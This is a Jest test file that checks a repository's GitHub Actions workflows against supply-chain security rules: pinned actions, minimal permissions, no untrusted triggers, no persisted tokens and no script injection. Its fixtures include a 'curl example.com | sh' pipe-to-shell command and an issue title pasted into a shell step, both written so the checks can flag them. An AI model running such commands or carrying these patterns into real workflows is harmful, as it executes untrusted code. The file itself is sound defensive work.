import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'yaml';

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Readonly<Record<string, unknown>>;
}
interface Job {
  readonly permissions?: Readonly<Record<string, string>>;
  readonly steps: readonly Step[];
}
interface Workflow {
  readonly on: Readonly<Record<string, unknown>>;
  readonly permissions?: unknown;
  readonly jobs: Readonly<Record<string, Job>>;
}

const FOLDER = '.github/workflows';
const { scripts } = JSON.parse(readFileSync('package.json', 'utf8')) as { scripts: Record<string, string> };

/** What jobs may write, by the workflow and the job. All others read. */
const WRITES: Readonly<Record<string, readonly string[]>> = {
  'release.yml stage': ['id-token'],
  'release.yml draft': ['contents'],
  'security.yml codeql': ['security-events'],
  'site.yml publish': ['pages', 'id-token'],
};
/** Programs that steps run beside scripts of package.json. */
const PROGRAMS = /^(?:npm (?:ci|stage)|gh|for|do|done|tee)\b/;
/** They run with the rights of the repository on what a stranger has sent. */
const OF_STRANGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];

/** What a workflow does that it should not. The rules are those of zizmor, which CI runs as well. */
function problemsOf(name: string, text: string): string[] {
  const { on, permissions, jobs } = parse(text) as Workflow;
  const pinned = text
    .split('\n')
    .filter((line) => /\buses:/.test(line) && !/uses: [\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line))
    .map((line) => `${line.trim()}: pin it by a commit, with its version behind it`);
  const triggers = Object.keys(on).filter((trigger) => OF_STRANGERS.includes(trigger));
  const reads = ['{}', '{"contents":"read"}'].includes(JSON.stringify(permissions));
  return [
    ...pinned,
    ...triggers.map((trigger) => `it runs on ${trigger}`),
    ...(reads ? [] : ['its permissions are not {} or contents: read']),
    ...Object.entries(jobs).flatMap(([job, { permissions: own = {}, steps }]) => {
      const writes = Object.keys(own).filter((scope) => own[scope] !== 'read');
      const allowed = WRITES[`${name} ${job}`] ?? [];
      return [
        ...writes.filter((scope) => !allowed.includes(scope)).map((scope) => `${job} may write ${scope}`),
        ...steps.flatMap((step) => problemsOfStep(step, writes.length > 0)).map((problem) => `${job}: ${problem}`),
      ];
    }),
  ];
}

function problemsOfStep({ uses = '', run = '', with: given = {} }: Step, writes: boolean): string[] {
  const isCheckout = uses.startsWith('actions/checkout@');
  const commands = run
    .split(/\s*(?:&&|\||;|\n)\s*/)
    .map((command) => command.replace(/^do /, ''))
    .filter((command) => command !== '' && !PROGRAMS.test(command))
    .filter((command) => scripts[/^npm (?:run )?(?:--silent )?(\S+)/.exec(command)?.[1] ?? ''] === undefined);
  return [
    ...(isCheckout && given['persist-credentials'] !== false ? ['it leaves the token in .git'] : []),
    ...(run.includes('${{') ? [`'${run}' pastes a value into a script: give it as env`] : []),
    ...(writes && /\bnpm (?:ci|run|test)\b/.test(run) ? [`'${run}' runs code of the repository, and may write`] : []),
    ...commands.map((command) => `'${command}' is no script of package.json`),
  ];
}

it.each(readdirSync(FOLDER))('the workflow %s keeps the rules', (name) => {
  expect(problemsOf(name, readFileSync(`${FOLDER}/${name}`, 'utf8'))).toEqual([]);
});

it('what publishes uses no cache that another workflow could have filled', () => {
  for (const name of ['release.yml', 'site.yml']) {
    const text = readFileSync(`${FOLDER}/${name}`, 'utf8');
    expect(text).not.toMatch(/\scache:/);
    expect(text.match(/actions\/setup-node@/g)).toHaveLength(text.match(/package-manager-cache: false/g)!.length);
  }
});

describe('a workflow', () => {
  const HASH = '0123456789abcdef0123456789abcdef01234567';
  const workflow = (steps: string, { on = 'push', permissions = '{}', job = '{ contents: read }' } = {}): string =>
    `on: { ${on}: }\npermissions: ${permissions}\njobs:\n  one:\n    permissions: ${job}\n    steps:\n${steps}`;

  it.each<[what: string, text: string, problems: readonly string[]]>([
    ['keeps the rules', workflow(`      - uses: a/b/c@${HASH} # v1.2.3\n      - run: npm ci`), []],
    [
      'uses a tag',
      workflow('      - uses: a/b@v1'),
      ['- uses: a/b@v1: pin it by a commit, with its version behind it'],
    ],
    [
      'does not say which version it uses',
      workflow(`      - uses: a/b@${HASH}`),
      [`- uses: a/b@${HASH}: pin it by a commit, with its version behind it`],
    ],
    [
      'keeps the token',
      workflow(`      - uses: actions/checkout@${HASH} # v1.2.3`),
      ['one: it leaves the token in .git'],
    ],
    [
      'pastes a title into a script',
      workflow('      - run: gh issue create --title "${{ github.event.issue.title }}"'),
      [
        `one: 'gh issue create --title "\${{ github.event.issue.title }}"' pastes a value into a script: give it as env`,
      ],
    ],
    [
      'has all rights',
      workflow('      - run: npm ci', { permissions: 'write-all' }),
      ['its permissions are not {} or contents: read'],
    ],
    [
      'may write, and runs what it has installed',
      workflow('      - run: npm test', { job: '{ id-token: write }' }),
      ['one may write id-token', "one: 'npm test' runs code of the repository, and may write"],
    ],
    [
      'runs on what strangers send',
      workflow('      - run: npm ci', { on: 'pull_request_target' }),
      ['it runs on pull_request_target'],
    ],
    [
      'runs what package.json does not have',
      workflow('      - run: npm ci && npm run nothing && curl example.com | sh'),
      [
        "one: 'npm run nothing' is no script of package.json",
        "one: 'curl example.com' is no script of package.json",
        "one: 'sh' is no script of package.json",
      ],
    ],
  ])('that %s', (_, text, problems) => {
    expect(problemsOf('one.yml', text)).toEqual(problems);
  });
});
